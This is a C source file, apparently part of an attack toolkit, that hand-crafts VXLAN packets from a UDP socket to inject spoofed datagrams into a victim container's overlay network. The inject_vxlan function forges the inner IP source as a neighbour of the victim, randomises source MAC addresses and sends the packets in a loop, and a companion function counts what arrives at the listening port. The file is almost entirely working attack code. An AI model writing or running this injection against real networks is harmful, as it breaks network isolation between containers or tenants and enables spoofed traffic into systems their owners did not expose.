/* A VXLAN packet made by hand, from a plain UDP socket, and the ear that would hear what it carries. */
#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"

enum { VXLAN = 4789, EAR = 7777 };

/* RFC 7348: the header with its network, then a frame, here a datagram for a container. */
struct packet {
  uint32_t flags, vni;
  struct ether_header ether;
  struct iphdr ip;
  struct udphdr udp;
  char payload[8];
} __attribute__((packed));

static uint16_t header_checksum(struct iphdr ip) {
  const uint8_t *bytes = (const uint8_t *)&ip;
  uint32_t sum = 0;
  for (size_t i = 0; i < sizeof ip; i += 2) sum += bytes[i] << 8 | bytes[i + 1];
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(~sum);
}

unsigned long inject_vxlan(char **arguments) {
  struct place host = place_of(arguments[0], VXLAN), victim = place_of(arguments[3], EAR);
  struct packet packet = {.flags = htonl(0x08000000),
                          .vni = htonl(atoi(arguments[1]) << 8),
                          .ether.ether_type = htons(ETHERTYPE_IP),
                          .udp = {{{htons(EAR), htons(EAR), htons(sizeof packet.udp + sizeof packet.payload), 0}}},
                          .payload = "injected"};
  read_mac(arguments[2], packet.ether.ether_dhost);
  packet.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                             .tot_len = htons(sizeof packet.ip + sizeof packet.udp + sizeof packet.payload)};
  packet.ip.daddr = ((struct sockaddr_in *)&victim.address)->sin_addr.s_addr;
  /* A neighbour of the victim's. */
  packet.ip.saddr = packet.ip.daddr ^ htonl(0x40);
  packet.ip.check = header_checksum(packet.ip);
  int udp = socket(host.address.ss_family, SOCK_DGRAM, 0);
  unsigned long struck = 0;
  while (attacking()) {
    fill_randomly(packet.ether.ether_shost, 6);
    packet.ether.ether_shost[0] = (packet.ether.ether_shost[0] & 0xfc) | 2;
    struck += sendto(udp, &packet, sizeof packet, 0, (struct sockaddr *)&host.address, host.length) > 0;
  }
  return struck;
}

/* Not an attack: how many datagrams have come to a port. */
unsigned long count_datagrams(char **arguments) {
  struct place any = place_of("0.0.0.0", atoi(arguments[0]));
  int udp = socket(AF_INET, SOCK_DGRAM, 0);
  if (bind(udp, (struct sockaddr *)&any.address, any.length)) fail("the port");
  unsigned long heard = 0;
  char bytes[16];
  while (attacking()) heard += recv(udp, bytes, sizeof bytes, 0) > 0;
  return heard;
}
